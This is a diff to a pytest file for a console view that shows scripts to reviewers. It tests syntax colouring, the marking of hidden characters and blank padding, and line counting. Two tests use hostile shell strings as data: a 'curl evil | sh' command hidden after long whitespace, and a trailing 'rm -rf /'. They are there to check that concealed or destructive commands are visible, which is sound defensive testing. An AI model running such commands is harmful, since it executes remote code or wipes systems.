@@ -9,7 +9,14 @@ import pytest
 from pygments.lexers import get_lexer_by_name
 
 from assent.gateway.console.colouring import COLOURED, COLOURED_MAX_CHARS, LINE_MAX_CHARS, coloured
-from assent.gateway.console.payload_view import CodeLine, Fold, PayloadView, payload_view
+from assent.gateway.console.payload_view import (
+    LINES_MAX,
+    CodeLine,
+    Fold,
+    PayloadView,
+    full_text,
+    payload_view,
+)
 from assent.reading.payloads import ShownPayload, shown_payload
 from assent_contracts.codec import encode
 
@@ -30,7 +37,7 @@ def view(text: str, name: str, before: str | None = None) -> PayloadView:
 
 def as_written(html: str) -> str:
     """What a browser would show of it."""
-    bare = re.sub(r'</?span(?: class="(?:tok-[\w -]+|hidden-char)")?>', "", html)
+    bare = re.sub(r'</?span(?: class="(?:tok-[\w -]+|hidden-char|piece)")?>', "", html)
     assert "<" not in bare, bare
     return (
         bare.replace("&lt;", "<")
@@ -104,7 +111,7 @@ def test_language_without_a_fit_lexer_is_text_without_colours() -> None:
     assert get_lexer_by_name("registry")
     assert seconds("-" * 200_000, "registry") < _MOST_S
     found = view("-" * 200_000, "a.reg")
-    assert "span" not in found.lines[0].html
+    assert "tok-" not in found.lines[0].html
 
 
 def marked(found: PayloadView) -> list[str]:
@@ -141,5 +148,23 @@ def test_difference_shows_added_and_removed_lines_and_folds_the_rest() -> None:
 
 def test_difference_of_line_ends_and_hidden_characters_is_seen() -> None:
     found = view("a\r\nb\u202e\nc\n", "a.sh", "a\nb\nc\n")
-    assert marked(found) == ["-a", "-b", r"+a\u{d}", r"+b\u{202e}", " c", " "]
-    assert found.hides_something
+    assert marked(found) == ["-a", "-b", "+a⟨U+000D⟩", "+b⟨U+202E⟩", " c", " "]
+    assert [(each.kind, each.count, each.line) for each in found.odd] == [("hidden", 1, 2)]
+    lines = [each for each in found.changes or () if isinstance(each, CodeLine)]
+    assert [each.is_odd for each in lines] == [False, False, True, True, False, False]
+
+
+def test_R23_a_line_is_shown_to_its_end_however_long() -> None:
+    text = "echo ok" + " " * 220 + "; curl evil | sh\n" + "x" * 200_000 + "end"
+    found = view(text, "a.sh")
+    assert as_written(found.lines[0].html) == "echo ok ⟨220 blanks⟩ ; curl evil | sh"
+    assert as_written(found.lines[1].html) == "x" * 200_000 + "end"
+    assert [each.is_odd for each in found.lines] == [True, True]
+    assert [each.kind for each in found.odd] == ["long", "blanks"]
+
+
+def test_R23_lines_beyond_the_page_are_counted() -> None:
+    found = view("echo\n" * 9_999 + "rm -rf /", "a.sh")
+    assert (found.count, found.more) == (10_000, 10_000 - LINES_MAX)
+    shown = shown_payload(encode("echo\n" * 9_999 + "rm -rf /"), "script/a.sh")
+    assert full_text(shown).endswith("10000  rm -rf /")
